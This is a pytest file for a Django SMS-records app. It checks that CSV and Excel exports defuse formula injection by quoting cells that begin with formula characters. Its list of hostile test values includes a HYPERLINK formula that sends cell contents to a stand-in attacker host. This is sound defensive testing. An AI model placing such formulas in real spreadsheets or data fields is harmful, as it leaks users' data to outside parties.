"""Exports neutralise spreadsheet formulas from upstream and pushes, in CSV and in Excel."""

from __future__ import annotations

import io
import json
from datetime import timedelta

import openpyxl
import pytest
import tablib
from django.test import Client
from django.utils import timezone
from support.sandbox import stub_client
from support.statistics import install_statistics, receipt

from access.spreadsheets import spreadsheet_cell
from deliveries.models import Fetch, SmsRecord, Status

pytestmark = pytest.mark.django_db

PHONE = "13900000000"
# What a hostile sender or a compromised upstream could put in a field, one per formula start.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
TOKEN = "export-token"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *[(value, "'" + value) for value in HOSTILE],
        ("DELIVERED", "DELIVERED"),
        ("SMS_271935402", "SMS_271935402"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, None),
        (100, 100),
        (-0.25, -0.25),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_a_quote_and_nothing_else_changes(value, cell):
    assert spreadsheet_cell(value) == cell


def hostile_day(install_client, day) -> None:
    """Upstream answers the day with one record per hostile value, in every text field."""
    details = [
        {
            "SendDate": f"{day:%Y-%m-%d} 10:00:{n:02d}",
            "ReceiveDate": f"{day:%Y-%m-%d} 10:01:{n:02d}",
            "SendStatus": 2,
            "ErrCode": value,
            "TemplateCode": value,
            "Content": value,
            "OutId": value,
            "PhoneNum": PHONE,
        }
        for n, value in enumerate(HOSTILE)
    ]
    body = {
        "Code": "OK",
        "RequestId": "R1",
        "TotalCount": len(details),
        "SmsSendDetailDTOs": {"SmsSendDetailDTO": details},
    }
    install_client(stub_client(body)[0])


# Export column -> the stored field it shows (as stored: the client may trim what it parses).
HOSTILE_COLUMNS = {
    "Error code": "err_code",
    "Template": "template_code",
    "Content": "content_masked",
    "OutId": "out_id",
}


def quoted(field: str) -> list[str]:
    """The stored values of ``field``, each as an export must write it: after one quote."""
    stored = sorted(SmsRecord.objects.values_list(field, flat=True))
    assert all(value[:1] in "=+-@\t\r" and value for value in stored)
    return sorted("'" + value for value in stored)


def test_hostile_upstream_fields_are_quoted_in_a_csv_export(manager, install_client, past_day):
    hostile_day(install_client, past_day)

    response = manager.get("/", {"phone": PHONE, "date": past_day.isoformat(), "_export": "csv"})

    data = tablib.Dataset().load(response.content.decode(), format="csv")
    assert len(data) == len(HOSTILE)
    for column, field in HOSTILE_COLUMNS.items():
        assert sorted(data[column]) == quoted(field)


def test_hostile_upstream_fields_are_quoted_text_in_an_excel_export(
    manager, install_client, past_day
):
    hostile_day(install_client, past_day)

    response = manager.get("/", {"phone": PHONE, "date": past_day.isoformat(), "_export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    for column, field in HOSTILE_COLUMNS.items():
        index = header.index(column)
        values = [row[index].value for row in sheet.iter_rows(min_row=2)]
        # A carriage return written unescaped reads back as a line feed (openpyxl's pure-Python
        # writer; through lxml it is escaped and stays); the quote is there all the same.
        shown = sorted(value.replace("\r", "\n") for value in values)
        assert shown == sorted(value.replace("\r", "\n") for value in quoted(field))
        assert {row[index].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}


def test_a_pushed_receipts_error_code_is_quoted_in_exports(manager, settings):
    settings.SMS_REPORT_TOKEN = TOKEN
    pushed = receipt(err_code="-2+3", success=False)
    day = timezone.localdate() - timedelta(days=2)
    sent = f"{day:%Y-%m-%d} 09:00:00"
    pushed.update(send_time=sent, report_time=f"{day:%Y-%m-%d} 09:00:05")
    fetch = Fetch.objects.create(
        phone=pushed["phone_number"],
        day=day,
        biz_id=pushed["biz_id"],
        fetched_at=timezone.now(),
        total_count=1,
        stored_count=1,
        waiting_count=1,
    )
    SmsRecord.objects.create(
        fetch=fetch, phone=fetch.phone, send_day=day, position=0, status=Status.WAITING
    )
    answer = Client().post(
        f"/receipts/{TOKEN}/", data=json.dumps([pushed]), content_type="application/json"
    )
    assert answer.status_code == 200
    search = {"phone": fetch.phone, "date": day.isoformat(), "biz_id": fetch.biz_id}

    csv_export = manager.get("/", {**search, "_export": "csv"})
    xlsx_export = manager.get("/", {**search, "_export": "xlsx"})

    assert tablib.Dataset().load(csv_export.content.decode(), format="csv")["Error code"] == [
        "'-2+3"
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_export.content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Error code") + 1)
    assert (cell.value, cell.data_type) == ("'-2+3", "s")


def test_the_rates_export_keeps_its_numbers_and_holds_no_formula(manager, monkeypatch):
    today = timezone.localdate()
    install_statistics(monkeypatch, {today - timedelta(days=n): (100, 90, 6, 4) for n in range(7)})

    response = manager.get("/stats/", {"_export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in sheet[2]][1:6] == [100, 90, 6, 4, 0.9]
